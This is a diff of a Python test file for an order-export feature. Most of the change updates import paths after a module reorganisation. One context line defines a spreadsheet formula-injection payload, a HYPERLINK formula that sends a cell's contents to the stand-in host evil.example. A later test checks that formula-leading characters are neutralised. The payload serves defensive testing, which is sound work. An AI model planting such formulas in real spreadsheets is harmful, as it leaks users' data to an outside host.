@@ -14,9 +14,10 @@ from pathlib import Path
 import pytest
 from openpyxl import load_workbook
 
-from gestco import db, export
-from gestco.errors import ValidationError
-from gestco.queries import NO_FILTER, OrderSort
+from gestco.domain.errors import ValidationError
+from gestco.services import export
+from gestco.services.order_table import NO_FILTER, OrderSort
+from gestco.storage import binding
 from tests.conftest import TEST_DB, Shop, sql, sqlite_only
 
 HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez")'
@@ -192,7 +193,7 @@ def test_an_export_never_replaces_the_database_or_its_files(orders: Path, tmp_pa
                 )
             assert refused.value.field == "output"
     assert database.read_bytes()[:100] == before and database.stat().st_size == size
-    db.close_database()
+    binding.close_database()
     assert sqlite3.connect(database).execute("SELECT count(*) FROM orders").fetchone() == (3,)
 
 
@@ -244,7 +245,7 @@ def test_a_missing_folder_is_said_about_the_export_file(orders: Path, tmp_path: 
 
 
 def test_cells_rules() -> None:
-    from gestco.export_cells import clean_text, excel_format, neutralise_formula
+    from gestco.services.export_cells import clean_text, excel_format, neutralise_formula
 
     for start in ("=", "+", "-", "@", "\t", "\r"):
         assert neutralise_formula(f"{start}1+2") == f"'{start}1+2"
